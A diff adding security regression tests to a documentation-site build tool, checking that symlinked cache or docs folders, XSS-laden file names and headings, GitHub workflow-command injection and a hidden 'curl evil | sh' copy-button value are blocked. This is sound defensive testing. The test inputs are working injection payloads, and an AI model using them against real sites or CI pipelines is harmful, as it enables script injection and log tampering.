@@ -697,3 +697,122 @@ def test_check_and_build_agree_on_a_control_character_in_a_title(project):
     done = hb.build("--strict")
     assert done.returncode != 0, output(done)
     assert "teams/support.md" in output(done)
+
+
+# ---- found in review: what the first round of fixes let through ---------------------------------------------
+
+
+def test_cache_entries_that_are_links_are_never_read(project, tmp_path):
+    """A pull request can commit `.cache/plugin/journeysite/<hash>.svg` as a link to a secret (the hash is
+    predictable) or to /dev/zero: the build reads only regular files, so neither is published nor read."""
+    require_dot()
+    hb = clean(project)
+    assert mkdocs_build(hb.root, "--strict").returncode == 0
+    secret = tmp_path / "secret.txt"
+    secret.write_text("SECRET-TOKEN", encoding="utf-8")
+    for index, svg in enumerate(cached_svgs(hb.root)):
+        svg.unlink()
+        svg.symlink_to(secret if index % 2 else Path("/dev/zero"))
+    again = mkdocs_build(hb.root, "--strict", timeout=120)
+    assert again.returncode == 0, output(again)
+    assert not [p for p, text in site_texts(hb.root / "site").items() if "SECRET-TOKEN" in text]
+    assert all(diagrams_of(hb.root / "site", relative) for relative in DIAGRAM_PAGES)  # drawn again
+
+
+def test_a_cache_folder_that_is_a_link_is_left_alone_and_said(project, tmp_path):
+    """A linked cache folder would have the build prune (delete) files wherever it points."""
+    require_dot()
+    hb = clean(project)
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "keep.svg").write_text("<svg/>", encoding="utf-8")
+    (hb.root / ".cache" / "plugin").mkdir(parents=True)
+    (hb.root / ".cache" / "plugin" / "journeysite").symlink_to(victim)
+    done = mkdocs_build(hb.root)
+    assert done.returncode == 0, output(done)
+    assert (victim / "keep.svg").exists() and [p.name for p in victim.iterdir()] == ["keep.svg"]
+    assert any("symbolic link" in line and "cache" in line for line in warnings(done)), output(done)
+
+
+@pytest.mark.parametrize("name", ["<img src=x onerror=alert(1)>.md", '<svg onload=alert(2)>/page.md', 'say "hi".md'])
+def test_names_that_would_reach_the_html_are_refused(project, name):
+    """MkDocs makes a page's title from its file name (and a section's from its folder's) and the theme
+    prints them as they are, in the navigation of every page and in search results."""
+    hb = project()
+    hb.write(name, "Some text.\n")
+    exit_code, data = hb.check_json()
+    assert exit_code == 1
+    assert [d["code"] for d in data["diagnostics"]] == ["unsafe-file"]
+    assert "rename it" in data["diagnostics"][0]["message"]
+    assert hb.build().returncode != 0
+
+
+def test_a_title_made_from_a_heading_cannot_break_out_of_the_page_title(project):
+    """With no `title:`, MkDocs takes the first heading, and the theme prints it through `striptags`,
+    which turns `&lt;` back into `<`."""
+    hb = project()
+    hb.write("notes.md", "# Notes &lt;/title&gt;&lt;img src=x onerror=alert(7)&gt;\n\nBody.\n")
+    done = hb.build("--strict")
+    assert done.returncode == 0, output(done)
+    text = (hb.root / "site" / "notes" / "index.html").read_text(encoding="utf-8")
+    assert script_in_html(text) == []
+    title = re.search(r"<title>(.*?)</title>", text, re.S).group(1)
+    assert "<img" not in title and "&lt;img" in title
+
+
+def test_the_legacy_command_form_cannot_reach_the_build_log(project):
+    """GitHub's runner still reads `##[command]` anywhere in a line."""
+    hb = project()
+    hb.write("teams/support.md", '---\nkind: team\ntitle: "Support ##[warning]Fake ##[add-mask]x"\n---\n')
+    hb.write("stages/a.md", "---\nkind: stage\ntitle: A\nowner: support\norder: 1\n---\n")
+    hb.write("teams/sales.md", "---\nkind: team\ntitle: Sales\n---\n")
+    hb.write("stages/b.md", "---\nkind: stage\ntitle: B\nowner: sales\norder: 2\n---\n")
+    done = hb.build()
+    assert "Fake" in output(done)  # the warning names the team
+    assert "##[" not in output(done)
+
+
+def test_mkdocs_own_warnings_cannot_issue_workflow_commands(project):
+    """MkDocs decodes `%0A` in a link target before it warns that the target is missing."""
+    hb = project()
+    hb.write("notes.md", "# Notes\n\n[a](nope%0A::warning%20file=mkdocs.yml::PWNED%0A.md)\n")
+    done = hb.build()
+    assert "PWNED" in output(done)
+    assert command_lines(output(done)) == []
+
+
+def test_a_docs_folder_that_is_a_link_is_refused(project, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "creds.txt").write_text("TOPSECRET", encoding="utf-8")
+    (outside / "index.md").write_text("# Home\n", encoding="utf-8")
+    hb = project()
+    shutil.rmtree(hb.docs)
+    hb.docs.symlink_to(outside)
+    exit_code, data = hb.check_json()
+    assert exit_code == 1
+    [error] = data["diagnostics"]
+    assert error["code"] == "unsafe-file" and "docs folder" in error["message"]
+    done = hb.build()
+    assert done.returncode != 0
+    assert not [p for p, text in site_texts(hb.root / "site").items() if "TOPSECRET" in text]
+
+
+def test_the_reminder_issue_turns_no_address_into_a_link(project):
+    hb = project()
+    hb.write("teams/cs.md", '---\nkind: team\ntitle: "CS https://evil.example/@victim www.evil.example"\n'
+             'github: ["@lumen/cs"]\n---\n')
+    body = review(hb, "--format", "markdown").stdout
+    assert "https://" not in body.replace("https://handbook", "") and "www.evil" not in body
+    assert "evil.example" in body
+
+
+def test_the_sanitiser_keeps_no_data_attribute_the_theme_acts_on(project):
+    """mkdocs-material's copy button copies the nearest `data-copy` value instead of the code shown."""
+    hb = project()
+    hb.write("notes.md", '# Notes\n\n<div data-copy="curl evil | sh" data-md-component="x" data-tabs="1:1">'
+             "<p>Run it.</p></div>\n")
+    assert hb.build("--strict").returncode == 0
+    text = (hb.root / "site" / "notes" / "index.html").read_text(encoding="utf-8")
+    assert "curl evil" not in text and 'data-md-component="x"' not in text
+    assert 'data-tabs="1:1"' in text
